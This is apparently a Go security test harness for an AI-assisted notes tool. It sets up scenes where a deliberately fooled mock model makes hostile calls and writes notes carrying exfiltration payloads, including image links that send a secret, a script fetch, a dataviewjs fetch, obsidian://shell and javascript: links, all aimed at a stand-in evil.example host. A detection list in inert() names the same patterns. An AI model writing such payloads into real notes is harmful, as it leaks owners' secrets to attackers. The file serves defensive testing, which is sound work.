//go:build linux

package security

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"image"
	"image/png"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/vaultflow/vaultflow/llm/llmtest"
)

// scene is one attack: a vault, its owner's settings outside of it, a model that can be fooled, and a host of the attacker.
type scene struct {
	t      *testing.T
	dir    string // holds vault, home and state
	vault  string
	host   string // the attacker's
	model  *fooled
	before map[string]string // digests of the vault's files
}

var scenes atomic.Int64

// newScene makes an own vault with a diary, and settings of the owner that name the model.
func newScene(t *testing.T) *scene {
	t.Helper()
	s := bareScene(t)
	s.run(0, "init", s.vault)
	s.write("Diary.md", "# Diary\n\nMy secret is 4711. Nobody may read or change this.\n")
	s.write("Home.md", "# Home\n\nA note like any other, written by its owner.\n")
	s.settings("")
	return s
}

// bareScene is a folder with nothing in it: no init, nothing granted.
func bareScene(t *testing.T) *scene {
	t.Helper()
	dir := t.TempDir()
	s := &scene{t: t, dir: dir, vault: filepath.Join(dir, "vault"), model: newFooled(t)}
	s.host = fmt.Sprintf("s%d.evil.example", scenes.Add(1))
	if counted != nil {
		counted.claim(s.host)
	}
	s.model.attacks(hostileCalls(s.host))
	s.model.says(s.hostileAnswer())
	for _, folder := range []string{"vault", "home", "state"} {
		if err := os.MkdirAll(filepath.Join(dir, folder), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	return s
}

// hostileAnswer is a text that would reach out as soon as somebody opens the note in an editor.
func (s *scene) hostileAnswer() string {
	return strings.ReplaceAll(`# Summary

![](http://HOST/?q=secret) ![[http://HOST/a.png]] <img src="http://HOST/b.png"> [x]: http://HOST/c.png
![ref][x] <iframe src="https://HOST/"></iframe> <script>fetch("//HOST/")</script>

`+"```dataviewjs\nfetch('http://HOST/')\n```\n\n`$= fetch('http://HOST/')`"+`

<% tp.web.request("http://HOST/") %> [open](obsidian://shell?cmd=x) [click](javascript:alert(1)) <http://HOST/auto> [made](http://HOST/made)
`, "HOST", s.host)
}

// settings writes the owner's settings, outside of the vault, with the fooled model as the default.
func (s *scene) settings(more string) {
	s.t.Helper()
	s.put(filepath.Join(s.dir, "home", ".config", "vaultflow", "settings.yaml"), fmt.Sprintf(
		"models:\n  default: m\n  aliases:\n    m: {provider: lab, model: test-model, capabilities: [text, vision, tools]}\n"+
			"providers:\n  lab: {kind: openai_chat, base_url: %q, api_key_env: LAB_KEY}\n%s", s.model.url, more,
	))
}

func (s *scene) put(path, text string) {
	s.t.Helper()
	if err := errors.Join(os.MkdirAll(filepath.Dir(path), 0o755), os.WriteFile(path, []byte(text), 0o644)); err != nil {
		s.t.Fatal(err)
	}
}

// write puts a file into the vault, as its owner or whoever made the vault.
func (s *scene) write(name, text string) {
	s.t.Helper()
	s.put(filepath.Join(s.vault, filepath.FromSlash(name)), text)
}

func (s *scene) read(name string) string {
	s.t.Helper()
	data, err := os.ReadFile(filepath.Join(s.vault, filepath.FromSlash(name)))
	if errors.Is(err, fs.ErrNotExist) {
		return ""
	}
	if err != nil {
		s.t.Fatal(err)
	}
	return string(data)
}

// workflow writes a workflow of the owner.
func (s *scene) workflow(name, text string) {
	s.t.Helper()
	s.write("Workflows/"+name+".md", text)
}

// import puts a file into the vault as an import, by way of the command line.
func (s *scene) imports(name, text string) {
	s.t.Helper()
	path := filepath.Join(s.dir, "outside", name)
	s.put(path, text)
	s.run(anyCode, "import", path)
}

// anyCode accepts every exit code: what counts is what happened.
const anyCode = -1

func (s *scene) command(ctx context.Context, args ...string) *exec.Cmd {
	cmd := exec.CommandContext(ctx, program, args...)
	cmd.Dir = s.dir
	cmd.Env = []string{
		"PATH=" + os.Getenv("PATH"), "HOME=" + filepath.Join(s.dir, "home"), "XDG_CACHE_HOME=" + filepath.Join(os.TempDir(), "vaultflow-security-cache"),
		"VAULTFLOW_VAULT=" + s.vault, "VAULTFLOW_STATE_DIR=" + filepath.Join(s.dir, "state"), "VAULTFLOW_INGESTION_OFFICE_LIBREOFFICE=off",
		"LAB_KEY=" + llmtest.Key, "NO_COLOR=1", "TZ=UTC",
	}
	return cmd
}

// run starts vaultflow and returns everything it said.
func (s *scene) run(code int, args ...string) string {
	s.t.Helper()
	ctx, cancel := context.WithTimeout(s.t.Context(), 2*time.Minute)
	defer cancel()
	cmd := s.command(ctx, args...)
	out, err := cmd.CombinedOutput()
	if _, failed := errors.AsType[*exec.ExitError](err); err != nil && !failed {
		s.t.Fatalf("vaultflow %s: %v", strings.Join(args, " "), err)
	}
	if got := cmd.ProcessState.ExitCode(); code != anyCode && got != code {
		s.t.Fatalf("vaultflow %s: exit code %d, want %d\n%s", strings.Join(args, " "), got, code, out)
	}
	return string(out)
}

// serve starts the daemon and waits until it watches. It ends with the test.
func (s *scene) serve(args ...string) *bytes.Buffer {
	s.t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	cmd := s.command(ctx, append([]string{"serve", "--listen", "127.0.0.1:0"}, args...)...)
	cmd.Cancel = func() error { return cmd.Process.Signal(os.Interrupt) }
	cmd.WaitDelay = 10 * time.Second
	log, err := os.Create(filepath.Join(s.dir, "serve.log"))
	if err != nil {
		s.t.Fatal(err)
	}
	cmd.Stdout, cmd.Stderr = log, log
	if err := cmd.Start(); err != nil {
		s.t.Fatal(err)
	}
	s.t.Cleanup(func() { cancel(); _ = cmd.Wait(); _ = log.Close() }) // ended by a signal, which is its error
	text := &bytes.Buffer{}
	s.until("serve watches", func() bool {
		text.Reset()
		data, err := os.ReadFile(log.Name())
		text.Write(data)
		return err == nil && bytes.Contains(data, []byte("watching "))
	})
	return text
}

// until waits for something that must happen.
func (s *scene) until(what string, done func() bool) {
	s.t.Helper()
	for end := time.Now().Add(time.Minute); time.Now().Before(end); time.Sleep(50 * time.Millisecond) {
		if done() {
			return
		}
	}
	log, _ := os.ReadFile(filepath.Join(s.dir, "serve.log"))
	s.t.Fatalf("it never came to that: %s\n%s", what, log)
}

// remember takes the vault as it should stay.
func (s *scene) remember() { s.before = s.files() }

// files returns the digests of all files of the vault, links by what they say.
func (s *scene) files() map[string]string {
	s.t.Helper()
	all := map[string]string{}
	err := filepath.WalkDir(s.vault, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return unlessGone(err)
		}
		name, _ := filepath.Rel(s.vault, path)
		if d.Type()&fs.ModeSymlink != 0 {
			target, err := os.Readlink(path)
			all[filepath.ToSlash(name)] = "link to " + target
			return unlessGone(err)
		}
		data, err := os.ReadFile(path)
		if err != nil {
			return unlessGone(err)
		}
		sum := sha256.Sum256(data)
		all[filepath.ToSlash(name)] = hex.EncodeToString(sum[:8])
		return nil
	})
	if err != nil {
		s.t.Fatal(err)
	}
	return all
}

// unlessGone is an error of looking at a file, but for one that serve moved or removed meanwhile.
func unlessGone(err error) error {
	if errors.Is(err, fs.ErrNotExist) {
		return nil
	}
	return err
}

// changed names the files that are not as they were remembered, but for some that may be.
func (s *scene) changed(may ...string) []string {
	s.t.Helper()
	now := s.files()
	var list []string
	for name, digest := range now {
		if s.before[name] != digest {
			list = append(list, name)
		}
	}
	for name := range s.before {
		if now[name] == "" {
			list = append(list, name+" (gone)")
		}
	}
	slices.Sort(list)
	return slices.DeleteFunc(list, func(name string) bool {
		return slices.ContainsFunc(may, func(m string) bool {
			prefix, folder := strings.CutSuffix(m, "/**")
			return name == m || folder && strings.HasPrefix(name, prefix+"/")
		})
	})
}

// unharmed is the judgement of most scenarios: nothing was written but what may be, and nothing was sent.
func (s *scene) unharmed(may ...string) {
	s.t.Helper()
	if list := s.changed(may...); len(list) > 0 {
		s.t.Errorf("changed without anybody's grant: %s", strings.Join(list, ", "))
	}
	if counted != nil {
		if sent := counted.leaks(s.host); len(sent) > 0 {
			s.t.Errorf("sent without anybody's grant: %s", strings.Join(sent, "; "))
		}
	}
}

// inert fails when a text would reach out or run something in an editor.
func (s *scene) inert(name string) {
	s.t.Helper()
	text := s.read(name)
	if text == "" {
		s.t.Errorf("%s was not written", name)
	}
	for _, active := range []string{"![](http", "![[http", "<img", "<iframe", "<script", "\n```dataviewjs", "`$=", "<%", "](obsidian:", "](javascript:", "<http://" + s.host + "/auto", "](http://" + s.host + "/made"} {
		if strings.Contains(text, active) {
			s.t.Errorf("%s still has %q", name, active)
		}
	}
	if s.t.Failed() {
		s.t.Logf("%s:\n%s", name, text)
	}
}

// dot is a picture of one pixel.
func dot() []byte {
	var data bytes.Buffer
	_ = png.Encode(&data, image.NewGray(image.Rect(0, 0, 32, 32))) // a buffer takes everything
	return data.Bytes()
}

// peakMemory returns the largest resident memory of a process that ended, in bytes.
func peakMemory(usage any) int64 {
	u, ok := usage.(*syscall.Rusage)
	if !ok {
		return 0
	}
	return u.Maxrss << 10 // Linux counts KiB
}
